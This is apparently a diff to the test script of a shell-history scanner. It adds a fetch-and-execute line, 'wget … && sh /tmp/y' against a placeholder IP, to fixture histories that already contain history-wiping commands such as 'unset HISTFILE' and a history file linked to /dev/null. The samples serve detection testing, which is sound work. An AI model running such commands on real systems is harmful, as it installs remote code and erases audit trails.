@@ -208,6 +208,7 @@ for e in sys.stdin.buffer.read().decode().split("\0")[:-1]:
 	unset HISTFILE
 	export HISTSIZE=0
 	echo curl is a tool | grep sh
+	wget -q http://203.0.113.5/y -O /tmp/y && sh /tmp/y
 	H
 	printf 'history -c\n' > "$R/home/al/.python_history"
 	ln -s /dev/null "$R/home/bo/.bash_history"
@@ -222,6 +223,7 @@ for e in sys.stdin.buffer.read().decode().split("\0")[:-1]:
 	wget http://203.0.113.5/m -O /tmp/m
 	unset HISTFILE
 	export HISTSIZE=0
+	wget -q http://203.0.113.5/y -O /tmp/y && sh /tmp/y
 	W
 	diff want got
 	sqlite3 "$SCRATCH/c.db" "SELECT title FROM findings WHERE category = 'history' ORDER BY title" > titles
